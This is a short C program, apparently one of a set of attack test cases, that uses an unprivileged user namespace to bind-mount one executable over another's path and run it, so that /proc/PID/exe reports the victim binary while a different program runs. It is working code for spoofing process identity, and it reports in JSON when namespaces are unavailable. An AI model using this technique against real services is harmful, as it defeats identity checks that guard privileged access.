/* SPDX-License-Identifier: Apache-2.0 */
/*
 * userns_bind SOCKET VICTIM PROGRAM: as an ordinary user. In a user namespace of its own it mounts
 * PROGRAM over the path VICTIM and executes that path: /proc/PID/exe reads VICTIM from outside, and
 * what runs is PROGRAM.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "attack.h"

static void write_file(const char *path, const char *text)
{
	const int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		die("%s: %s", path, strerror(errno));
	close(fd);
}

int main(int argc, char **argv)
{
	const unsigned int uid = getuid(), gid = getgid();
	char map[64];

	if (argc != 4)
		die("usage: userns_bind SOCKET VICTIM PROGRAM");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
		/* Some machines allow no user namespaces: then there is no attack, and that is
		 * said. */
		printf("{\"who\":\"userns_bind\",\"impossible\":\"%s\"}\n", strerror(errno));
		return 0;
	}
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "%u %u 1", uid, uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "%u %u 1", gid, gid);
	write_file("/proc/self/gid_map", map);
	if (mount(argv[3], argv[2], NULL, MS_BIND, NULL))
		die("mount %s over %s: %s", argv[3], argv[2], strerror(errno));
	execv(argv[2], (char *const[]){argv[2], argv[1], NULL});
	die("exec %s: %s", argv[2], strerror(errno));
}
